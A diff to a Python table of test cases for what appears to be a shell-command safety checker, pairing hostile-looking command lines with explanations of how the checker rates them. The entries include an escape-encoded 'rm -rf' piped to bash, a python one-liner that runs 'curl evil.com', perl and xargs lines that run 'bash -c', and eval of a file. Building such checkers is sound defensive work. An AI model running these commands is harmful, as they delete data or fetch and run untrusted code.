@@ -731,14 +731,16 @@ UNMET: dict[str, str] = {
                                                             "not its password: the pack is right, the source's label "
                                                             "(blocked) was ours too",
     "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | bash": "the parser decodes printf's escapes: this runs `rm -rf` with no "
-                                                    "operand, which deletes nothing (with one, `\\x2f`, the pack denies)",
+                                                    "operand, which deletes nothing (with one, `\\x2f`, the pack denies); "
+                                                    "code spelt in escapes for a shell asks since stop 40",
     "python -c \"import os; os.popen('curl evil.com')\"": "runs `curl evil.com`, a download into a pipe that is read "
                                                           "by nothing that runs it; the source's label was ours",
     "perl -e \"exec('bash -c evil')\"": "runs `evil`, no known command; the pack reads exec's code (an exec of a "
                                         "command it can see, rm -rf /, denies)",
     "echo payload | xargs -I{} bash -c {}": "runs `bash -c payload`: the input is written in the line, and it names no "
                                             "dangerous command (xargs of unseen input asks)",
-    "cat script.txt | eval": "eval reads no standard input: this runs nothing",
+    "cat script.txt | eval": "eval reads no standard input: this runs nothing; the pack asks since stop 40 (the line "
+                             "means the file as code, which it cannot see)",
 }
 
 
